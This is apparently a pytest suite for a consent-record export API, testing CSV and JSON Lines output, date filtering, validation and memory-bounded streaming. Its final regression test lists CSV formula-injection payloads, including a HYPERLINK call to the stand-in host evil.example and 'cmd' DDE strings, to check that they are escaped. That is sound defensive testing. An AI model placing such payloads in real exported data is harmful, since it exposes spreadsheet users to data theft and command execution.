"""`GET /v1/export/consents`: every current state with its latest evidence, streamed."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import insert

from bot.db.consent_models import (
    ConsentEvent,
    ConsentState,
    LedgerHead,
    canonical_json,
    event_hash,
    sha256_hex,
)
from bot.db.models import Contact
from bot.export import EXPORT_COLUMNS
from bot.services import Services
from flows.consent import ConsentAction
from tests.bot.api.records_support import (
    AUTH,
    T0,
    Client,
    ClientFactory,
    change,
    records_client,
    seed,
    services_of,
    validator,
)


async def seed_three(services: Services) -> dict[str, int]:
    return {
        "15554440001": await seed(
            services,
            "15554440001",
            change(ConsentAction.GRANTED, "a1"),
            change(ConsentAction.WITHDRAWN, "a2", at=T0 + timedelta(hours=1)),
        ),
        "15554440002": await seed(
            services,
            "15554440002",
            change(ConsentAction.GRANTED, "b1"),
            change(ConsentAction.GRANTED, "b2", category="reminders"),
        ),
        "15554440003": await seed(services, "15554440003", change(ConsentAction.PENDING, "c1")),
    }


async def export(client: Client, **params: str) -> tuple[str, str]:
    response = await client.get("/v1/export/consents", params=params, headers=AUTH)
    assert response.status == 200, await response.text()
    return response.headers["Content-Type"], await response.text()


async def test_csv_has_a_header_and_one_row_per_state(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    client = await records_client(aiohttp_client, stack_urls, settings_for)
    ids = await seed_three(services_of(client))

    content_type, body = await export(client, format="csv")

    assert content_type.startswith("text/csv")
    lines = body.splitlines()
    assert lines[0].split(",") == list(EXPORT_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["wa_id"], r["category"], r["status"]) for r in rows] == [
        ("15554440001", "marketing", "opted_out"),
        ("15554440002", "marketing", "opted_in"),
        ("15554440002", "reminders", "opted_in"),
        ("15554440003", "marketing", "pending"),
    ]
    withdrawn = rows[0]
    assert withdrawn["contact_id"] == str(ids["15554440001"])
    assert withdrawn["user_id"] == "" and withdrawn["evidence_erased_at"] == ""
    assert (withdrawn["source"], withdrawn["method"], withdrawn["policy_version"]) == (
        "website",
        "api_record",
        "2025-01",
    )
    assert withdrawn["since"] == (T0 + timedelta(hours=1)).isoformat()
    assert withdrawn["event_action"] == "withdrawn"
    assert json.loads(withdrawn["evidence"])["key"] == "a2"
    assert withdrawn["evidence_digest"] == sha256_hex(withdrawn["evidence"])
    proof = await (await client.get("/v1/contacts/15554440001/proof", headers=AUTH)).json()
    latest = proof["events"][-1]
    assert (withdrawn["event_id"], withdrawn["event_hash"]) == (str(latest["id"]), latest["hash"])


async def test_jsonl_has_one_record_per_line(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    client = await records_client(aiohttp_client, stack_urls, settings_for)
    await seed_three(services_of(client))

    content_type, body = await export(client, format="jsonl")

    assert content_type.startswith("application/x-ndjson")
    assert body.endswith("\n")
    records = [json.loads(line) for line in body.splitlines()]
    check = validator("ConsentExportRecord")
    for record in records:
        check.validate(record)
        assert list(record) == list(EXPORT_COLUMNS)
    assert [(r["wa_id"], r["category"], r["status"]) for r in records] == [
        ("15554440001", "marketing", "opted_out"),
        ("15554440002", "marketing", "opted_in"),
        ("15554440002", "reminders", "opted_in"),
        ("15554440003", "marketing", "pending"),
    ]
    assert records[1]["evidence"] == {
        "ip": "203.0.113.7",
        "wording": "Send me offers",
        "key": "b1",
    }


async def test_since_keeps_the_states_changed_from_then_on(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    client = await records_client(aiohttp_client, stack_urls, settings_for)
    services = services_of(client)
    await seed_three(services)
    cut = datetime.now(UTC)
    later = await seed(services, "15554440009", change(ConsentAction.GRANTED, "z1"))
    await services.ledger.apply(later, [change(ConsentAction.GRANTED, "z2", category="reminders")])

    _, body = await export(client, format="jsonl", since=cut.isoformat())
    _, everything = await export(client, format="csv", since="2000-01-01T00:00:00Z")

    assert [(r["wa_id"], r["category"]) for r in map(json.loads, body.splitlines())] == [
        ("15554440009", "marketing"),
        ("15554440009", "reminders"),
    ]
    assert len(everything.splitlines()) == 1 + 6
    # An unencoded "+" of the offset arrives as a space; it still means the offset.
    raw = cut.isoformat()
    assert "+" in raw
    response = await client.get(f"/v1/export/consents?format=jsonl&since={raw}", headers=AUTH)
    assert (await response.text()) == body


async def test_bad_parameters_are_refused_and_an_empty_export_is_a_header(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    client = await records_client(aiohttp_client, stack_urls, settings_for)

    for params in ({"format": "xml"}, {"since": "yesterday"}, {"since": "2025-03-01T00:00:00"}):
        response = await client.get("/v1/export/consents", params=params, headers=AUTH)
        assert response.status == 422, params
        assert (await response.json())["error"] == "invalid_request"
    assert (await client.get("/v1/export/consents")).status == 401
    _, body = await export(client)
    assert body == ",".join(EXPORT_COLUMNS) + "\r\n"
    _, lines = await export(client, format="jsonl")
    assert lines == ""


STATES = 20_000
RECENT = 2_000


async def seed_many(services: Services, count: int, recent: int) -> datetime:
    """``count`` contacts with one opted-in state each, written in bulk (hash-chained); the
    last ``recent`` states changed a day after the others. Returns a time between the two."""
    now = datetime.now(UTC)
    evidence = canonical_json({"ip": "203.0.113.7", "wording": "Send me offers " * 4})
    contacts, events, states, heads = [], [], [], []
    for n in range(1, count + 1):
        contacts.append({"id": n, "wa_id": f"1555{n:07d}", "created_at": now, "updated_at": now})
        values: dict[str, Any] = {
            "id": n,
            "contact_id": n,
            "chain": n,
            "seq": 1,
            "category": "marketing",
            "action": "granted",
            "source": "website",
            "method": "api_record",
            "evidence_json": evidence,
            "evidence_digest": sha256_hex(evidence),
            "business_name": "Acme Shoes",
            "policy_version": "2025-01",
            "occurred_at": T0,
            "recorded_at": now,
            "event_key": f"bulk-{n}",
            "prev_hash": "0" * 64,
        }
        values["hash"] = event_hash(values)
        events.append(values)
        heads.append({"chain": n, "seq": 1, "hash": values["hash"]})
        states.append(
            {
                "contact_id": n,
                "category": "marketing",
                "status": "opted_in",
                "since": T0,
                "last_event_id": n,
                "source": "website",
                "method": "api_record",
                "policy_version": "2025-01",
                "updated_at": now if n > count - recent else now - timedelta(days=1),
            }
        )
    async with services.engine.begin() as connection:
        for model, rows in (
            (Contact, contacts),
            (ConsentEvent, events),
            (LedgerHead, heads),
            (ConsentState, states),
        ):
            await connection.execute(insert(model), rows)  # type: ignore[arg-type]
    return now - timedelta(hours=1)


async def peak_while_exporting(client: Client, **params: str) -> tuple[int, int]:
    """(peak bytes allocated while the export ran and was read, lines received)."""
    tracemalloc.start()
    try:
        response = await client.get("/v1/export/consents", params=params, headers=AUTH)
        assert response.status == 200
        lines = 0
        async for chunk in response.content.iter_chunked(64 * 1024):
            lines += chunk.count(b"\n")
        return tracemalloc.get_traced_memory()[1], lines
    finally:
        tracemalloc.stop()


@pytest.mark.slow
async def test_a_large_export_streams_in_constant_memory(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    """Exporting ten times the states takes no more memory: rows are read, written and let go
    batch by batch. (A buffered export would peak at ten times the small one, and above the
    20,000-row body of about 8 MB.) Both formats share the batched reading; CSV is measured."""
    client = await records_client(aiohttp_client, stack_urls, settings_for)
    cut = await seed_many(services_of(client), STATES, RECENT)

    small_peak, small_lines = await peak_while_exporting(client, since=cut.isoformat())
    large_peak, large_lines = await peak_while_exporting(client)

    assert (small_lines, large_lines) == (1 + RECENT, 1 + STATES)
    assert large_peak < small_peak * 1.25 + 200_000, (small_peak, large_peak)
    assert large_peak < 8_000_000, large_peak


async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
    aiohttp_client: ClientFactory, stack_urls: tuple[str, str], settings_for: Any
) -> None:
    """Regression (issue 9, item 9): the CSV export escaped no formula, so text from a client
    such as `=HYPERLINK(…)` ran when an auditor opened the file in a spreadsheet. Cells
    starting with = + - @, tab or CR now start with a `'`; JSON Lines keeps the exact value."""
    import dataclasses

    client = await records_client(aiohttp_client, stack_urls, settings_for)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    categories = ["marketing", "order_updates", "reminders", "account_alerts"]
    services = services_of(client)
    for number, start in (("15554449001", 0), ("15554449002", 4)):
        await seed(
            services,
            number,
            *(
                dataclasses.replace(
                    change(ConsentAction.GRANTED, f"f{n}", category=categories[n - start]),
                    policy_version=text,
                )
                for n, text in enumerate(hostile[start : start + 4], start=start)
            ),
        )

    _, body = await export(client, format="csv")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert sorted(r["policy_version"] for r in rows) == sorted("'" + text for text in hostile)
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert rows[0]["evidence"].startswith("{")

    _, lines = await export(client, format="jsonl")
    versions = [json.loads(line)["policy_version"] for line in lines.splitlines()]
    assert sorted(versions) == sorted(hostile)
